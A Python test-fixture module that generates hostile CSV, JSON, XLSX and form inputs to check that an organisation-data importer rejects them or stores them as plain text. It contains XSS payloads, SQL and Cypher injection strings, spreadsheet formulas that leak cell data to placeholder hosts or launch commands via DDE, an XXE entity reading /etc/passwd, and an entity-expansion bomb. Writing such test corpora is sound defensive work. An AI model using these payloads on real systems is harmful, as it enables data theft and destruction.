"""A corpus of hostile files and form inputs, made here (nothing downloaded).

Each case is ``(id, filename, bytes, expect, names)`` where ``expect`` is ``"reject"``
(the importer must raise ``ValidationError`` naming row/column/reason and write
nothing), ``"verbatim"`` (it may be stored, but only as the text given — its
display form, trimmed with runs of spaces made one) or ``"either"``; ``names``
are the organisation names the file holds, for ``"verbatim"`` cases.
"""

from __future__ import annotations

import io
import json
import random

__all__ = ["file_cases", "form_values", "NAMES", "SCRIPT_NAMES", "FORMULA_NAMES", "QUERY_NAMES", "CONTROL_NAMES"]

SCRIPT_NAMES = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '"><script>console.log("XSS-MARKER")</script>',
    "<iframe src=javascript:alert(1)>",
    "javascript:alert(1)",
    "<a href='javascript:alert(1)'>株式会社 罠</a>",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "</textarea><script>alert(1)</script>",
    "<style>body{display:none}</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<b onmouseover=alert(1)>NPO法人 太字</b>",
]
FORMULA_NAMES = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"開く")',
    "=1+1",
    "+81-3-0000-0000 株式会社",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x.invalid/?",A2),"//a")',
    '=DDE("cmd";"/C calc";"x")',
]
QUERY_NAMES = [
    "'); DROP TABLE orgs;--",
    "x' OR '1'='1",
    "1; DELETE FROM audit",
    '" UNION SELECT password_hash FROM users --',
    "MATCH (n) DETACH DELETE n",
    "'}) MATCH (n) DETACH DELETE n //",
    "CALL db.labels() YIELD label RETURN label",
    "$name} RETURN 1 //",
    "Robert'); DROP TABLE ties;-- 自治会",
    "ATTACH DATABASE '/tmp/x.db' AS x",
]
CONTROL_NAMES = [
    "a\x00b 町内会",
    "bell\x07 NPO",
    "esc\x1b[31m 赤 株式会社",
    "back\x08space 財団",
    "rtl\u202eكنيسة 株式会社",
    "zero\u200bwidth 市",
    "form\x0cfeed 大学",
    "del\x7f 協議会",
    "bom\ufeff 団体",
    "nel\x85 団体",
]
NAMES = SCRIPT_NAMES + FORMULA_NAMES + QUERY_NAMES + CONTROL_NAMES


def _csv_cell(s: str) -> str:
    return '"' + s.replace('"', '""') + '"'


def _orgs_csv(names: list[str], sector: str = "npo", encoding: str = "utf-8") -> bytes:
    body = "name,sector\n" + "".join(f"{_csv_cell(n)},{sector}\n" for n in names)
    return body.encode(encoding, errors="strict")


def file_cases() -> list[tuple[str, str, bytes, str, list[str]]]:
    """At least 100 hostile files: ``(id, filename, bytes, expect, names written in it)``."""
    cases: list[tuple] = []

    def add(case: tuple) -> None:
        cases.append(case if len(case) == 5 else case + ([],))

    good = "団体名,区分\nみやぎ連携復興センター,中間支援\n石巻市,行政\n地域活動協議会 鶴見,自治会\n".encode()
    # --- truncated and mixed encodings (16)
    for cut in (1, 2, 4, 7, 11, 17, 23, 29):
        add((f"trunc-utf8-{cut}", f"trunc{cut}.csv", good[:-cut], "either"))
    sjis = "団体名,区分\nみやぎ連携復興センター,中間支援\n".encode("cp932")
    add(("trunc-sjis", "trunc_sjis.csv", sjis[:-3], "either"))
    add(("mixed-utf8-sjis", "mixed.csv", good + "石巻市社会福祉協議会,社協\n".encode("cp932"), "reject"))
    add(("mixed-sjis-utf8", "mixed2.csv", sjis + "鶴見区,行政\n".encode(), "reject"))
    add(("utf16-no-bom", "u16.csv", "団体名,区分\n甲,企業\n".encode("utf-16-le"), "either"))
    add(("bom-then-sjis", "bomsjis.csv", b"\xef\xbb\xbf" + sjis, "reject"))
    add(("utf16-bom-odd", "u16odd.csv", b"\xff\xfe" + "団体名,区分\n".encode("utf-16-le") + b"\x00", "either"))
    add(("latin1", "latin1.csv", "name,sector\nCafé Société,company\n".encode("latin-1"), "either"))
    add(("euc-jp", "euc.csv", "団体名,区分\n仙台市,行政\n".encode("euc_jp"), "either"))
    # --- binary junk (16)
    rng = random.Random(20240401)
    for i in range(10):
        add((f"junk-{i}", f"junk{i}.csv", bytes(rng.randrange(256) for _ in range(rng.randrange(1, 4000))), "either"))
    add(("png", "logo.csv", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "either"))
    add(("zip-not-xlsx", "book.xlsx", b"PK\x03\x04" + bytes(200), "reject"))
    add(("truncated-xlsx", "trunc.xlsx", b"PK\x03\x04\x14\x00\x06\x00", "reject"))
    add(("pdf", "orgs.csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "either"))
    add(("gzip", "orgs.csv", b"\x1f\x8b\x08\x00" + bytes(40), "either"))
    add(("nul-only", "nul.csv", b"\x00" * 1000, "either"))
    # --- huge cells (6)
    add(("cell-20k", "big1.csv", _orgs_csv(["大" * 20_000]), "either"))
    add(("cell-100k-note", "big2.csv", ("name,sector,note\n甲,npo," + "x" * 100_000 + "\n").encode(), "either"))
    add(("cell-200k", "big3.csv", ("name,sector\n" + "y" * 200_000 + ",npo\n").encode(), "reject"))
    add(("cell-1m-quoted", "big4.csv", ('name,sector\n"' + "z" * 1_000_000 + '",npo\n').encode(), "reject"))
    add(("many-lines-in-cell", "lines.csv", ('name,sector\n"' + "行\n" * 5000 + '",npo\n').encode(), "either"))
    add(("unclosed-quote", "quote.csv", b'name,sector\n"never closed,npo\n', "either"))
    # --- 10,000-column rows (4)
    add(("row-10000-cols", "wide.csv", ("name,sector\n" + ",".join(["x"] * 10_000) + "\n").encode(), "reject"))
    add(("header-10000-cols", "wide2.csv", (",".join(f"c{i}" for i in range(10_000)) + "\na\n").encode(), "reject"))
    add(
        (
            "named-10000-cols",
            "wide3.csv",
            ("name,sector," + ",".join(f"x{i}" for i in range(10_000)) + "\n甲,npo\n").encode(),
            "either",
        )
    )
    add(("ties-10000-cols", "ties.csv", ("source,target,type\n" + ",".join(["a"] * 10_000) + "\n").encode(), "reject"))
    # --- names: markup, formulas, queries, control characters (40), one file each
    for i, n in enumerate(NAMES):  # a control character is refused (issue 9 item 5), anything else kept as text
        add((f"name-{i:02d}", f"orgs{i}.csv", _orgs_csv([n]), "reject" if _refused(n) else "verbatim", [n]))
    # --- the same names in one CP932 file where they encode, and in JSON (2)
    enc = [n for n in SCRIPT_NAMES + QUERY_NAMES if _encodes(n, "cp932")]
    add(("names-cp932", "orgs_sjis.csv", _orgs_csv(enc, encoding="cp932"), "verbatim", enc))
    add(
        (
            "names-json",
            "orgs.json",
            json.dumps([{"name": n, "sector": "npo"} for n in NAMES], ensure_ascii=False).encode(),
            "reject",
            NAMES,
        )
    )
    kept = [n for n in NAMES if not _refused(n)]
    add(
        (
            "names-json-kept",
            "orgs.json",
            json.dumps([{"name": n, "sector": "npo"} for n in kept], ensure_ascii=False).encode(),
            "verbatim",
            kept,
        )
    )
    # --- workbooks and JSON that attack the reader (issue 9 items 5, 7, 8, 9)
    cases.extend(_reader_attacks())
    # --- JSON and structure (18)
    add(("json-truncated", "a.json", b'{"orgs": [{"name": "x", ', "reject"))
    add(("json-deep", "deep.json", b"[" * 100_000 + b"]" * 100_000, "reject"))
    add(("json-object-name", "o.json", b'[{"name": {"a": 1}, "sector": "npo"}]', "either"))
    add(("json-list-name", "l.json", b'[{"name": ["<b>", 2], "sector": "npo"}]', "either"))
    add(("json-null", "n.json", b"null", "either"))
    add(("json-number", "n2.json", b"12345", "either"))
    add(("json-huge-number", "n3.json", b'[{"name": 1e999999, "sector": "npo"}]', "either"))
    add(("empty", "empty.csv", b"", "either"))
    add(("header-only", "h.csv", b"name,sector\n", "either"))
    add(("no-known-header", "x.csv", b"foo,bar\n1,2\n", "reject"))
    add(("dup-headers", "d.csv", "name,name,sector\n甲,乙,npo\n".encode(), "either"))
    add(("bad-sector", "s.csv", "name,sector\n甲,宇宙人\n".encode(), "reject"))
    add(("ties-unknown-orgs", "ties2.csv", "source,target,type\n幽霊団体,亡霊団体,協働\n".encode(), "reject"))
    add(("ties-self", "ties3.csv", "source,target,type\n石巻市,石巻市,協働\n".encode(), "reject"))
    add(("ties-strength-99", "ties4.csv", "source,target,type,strength\n石巻市,れんぷく,協働,99\n".encode(), "reject"))
    add(
        (
            "ties-bad-dates",
            "ties5.csv",
            "source,target,type,start,end\n石巻市,れんぷく,協働,2024-13-45,2020-01-01\n".encode(),
            "reject",
        )
    )
    add(("corporate-number-bad", "c.csv", "name,sector,corporate_number\n甲,企業,1234567890123\n".encode(), "reject"))
    add(("crlf-cr-mix", "crlf.csv", b"name,sector\r\n\xe7\x94\xb2,npo\r\xe4\xb9\x99,npo\n", "either"))
    return cases


def _refused(name: str) -> bool:
    """Whether a name holds a character no stored one-line text may hold (docs/input_limits.md):
    C0 and C1 controls, DEL, bidirectional overrides, lone surrogates, U+FFFE, U+FFFF."""
    import re

    return (
        re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff\ufffe\uffff]", name.strip()) is not None
    )


def _reader_attacks() -> list[tuple[str, str, bytes, str, list[str]]]:
    """Workbooks edited part by part, and JSON text: stale dimension, inflation, XML entities, surrogates."""
    import zipfile

    from tests.ingest.workbooks import SHEET, book, edit, lie_about_size, stale_dimension

    nine = [f"団体{i}" for i in range(9)]
    plain = book([("AAA", "npo", "仙台市")])
    lol = (
        '<!DOCTYPE worksheet [<!ENTITY l0 "lol">'
        + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
        + "]>"
    )
    xxe = '<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    bz = io.BytesIO()
    src = zipfile.ZipFile(io.BytesIO(plain))
    with zipfile.ZipFile(bz, "w", zipfile.ZIP_BZIP2) as z:
        for info in src.infolist():
            z.writestr(info.filename, src.read(info.filename))
    return [
        (
            "xlsx-stale-dimension",
            "stale.xlsx",
            stale_dimension(book([(n, "npo", "仙台市") for n in nine]), "A1:C2"),
            "verbatim",
            nine,
        ),
        (
            "xlsx-billion-laughs",
            "lol.xlsx",
            edit(plain, SHEET, lambda b: lol.encode() + b.replace(b"AAA", b"&l9;")),
            "reject",
            [],
        ),
        (
            "xlsx-external-entity",
            "xxe.xlsx",
            edit(plain, SHEET, lambda b: xxe.encode() + b.replace(b"AAA", b"&x;")),
            "reject",
            [],
        ),
        (
            "xlsx-lying-size",
            "liar.xlsx",
            lie_about_size(book([(n, "npo", "x" * 300) for n in nine]), SHEET, 64),
            "reject",
            [],
        ),
        ("xlsx-bzip2", "bz.xlsx", bz.getvalue(), "reject", []),
        ("xlsx-c1-city", "c1.xlsx", edit(plain, SHEET, _c1_city), "reject", []),
        ("json-lone-surrogate", "s.json", b'[{"name": "a\\ud800b", "sector": "npo"}]', "reject", []),
        ("json-surrogate-key", "k.json", b'[{"name": "a", "sector": "npo", "x\\udfffy": 1}]', "reject", []),
        ("csv-c1-city", "c1.csv", "name,sector,city\n甲,npo,石巻\u0085市\n".encode(), "reject", []),
        ("csv-tab-in-name", "tab.csv", '"name",sector\n"甲\t乙",npo\n'.encode(), "reject", []),
    ]


def _encodes(s: str, enc: str) -> bool:
    try:
        s.encode(enc)
    except UnicodeEncodeError:
        return False
    return True


def form_values() -> list[tuple[str, dict, str]]:
    """Hostile form inputs: ``(id, fields, expect)`` for organisation and tie forms."""
    out: list[tuple[str, dict, str]] = []
    for i, n in enumerate(NAMES):
        out.append((f"org-name-{i:02d}", {"name": n, "sector": "npo"}, "reject" if _refused(n) else "verbatim"))
    for i, n in enumerate(SCRIPT_NAMES[:4] + QUERY_NAMES[:4]):
        out.append((f"org-note-{i}", {"name": f"備考テスト{i}", "sector": "npo", "note": n, "city": n}, "verbatim"))
    out += [
        ("org-empty", {"name": "", "sector": "npo"}, "reject"),
        ("org-spaces", {"name": "   　 ", "sector": "npo"}, "reject"),
        ("org-bad-sector", {"name": "甲", "sector": "<script>"}, "reject"),
        ("org-bad-corp", {"name": "甲", "sector": "company", "corporate_number": "' OR 1=1 --"}, "reject"),
        ("tie-unknown", {"source": "<script>alert(1)</script>", "target": "石巻市", "type": "協働"}, "reject"),
        (
            "tie-bad-type",
            {"source": "石巻市", "target": "みやぎ連携復興センター", "type": "MATCH (n) DELETE n"},
            "reject",
        ),
        ("tie-bad-strength", {"source": "石巻市", "target": "みやぎ連携復興センター", "strength": "=1+1"}, "reject"),
        (
            "tie-bad-date",
            {"source": "石巻市", "target": "みやぎ連携復興センター", "start": "'; DROP TABLE ties"},
            "reject",
        ),
    ]
    return out


def _c1_city(sheet: bytes) -> bytes:
    """Put a C1 control (U+009B, CSI) into the city cell, whether the writer stored 仙台市 as UTF-8
    or as character references (openpyxl writes references when lxml is installed)."""
    c1 = "仙台\u009b市".encode()
    return sheet.replace("仙台市".encode(), c1).replace(b"&#20185;&#21488;&#24066;", c1)
